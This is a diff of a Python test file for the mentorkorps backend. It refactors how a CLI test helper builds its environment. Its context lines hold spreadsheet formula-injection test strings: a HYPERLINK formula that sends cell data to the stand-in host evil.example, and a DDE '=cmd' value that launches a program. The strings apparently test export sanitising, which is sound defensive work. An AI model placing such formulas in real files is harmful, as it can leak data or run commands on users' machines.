@@ -12,7 +12,6 @@ from dataclasses import replace
 import pytest
 
 from mentorkorps.backend import sheet, store
-from tests.backend.conftest import KEY
 from tests.conftest import ROOT
 
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"se her")'
@@ -20,10 +19,9 @@ COMPUTED = ("=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "=cmd|' /C calc'!A0", HOSTI
 
 
 def desk(house, *arguments):
-    told = {"MENTORKORPS_DATABASE_URL": f"sqlite:///{house.settings.database}", "MENTORKORPS_SECRET_KEYS": KEY}
     return subprocess.run(
         [sys.executable, "-m", "mentorkorps.cli", "desk", *map(str, arguments)],
-        capture_output=True, cwd=ROOT, env=os.environ | told,
+        capture_output=True, cwd=ROOT, env=os.environ | house.environ,
     )  # fmt: skip
 
 
